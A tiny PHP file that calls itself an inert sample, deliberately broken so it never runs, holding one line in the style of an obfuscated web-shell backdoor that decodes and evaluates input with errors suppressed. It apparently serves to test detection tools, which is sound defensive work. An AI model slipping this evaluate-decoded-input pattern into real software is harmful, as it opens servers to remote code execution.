<?php
shodo inert sample: deliberate syntax error, this file never runs
@assert(str_rot13(base64_decode($p)));
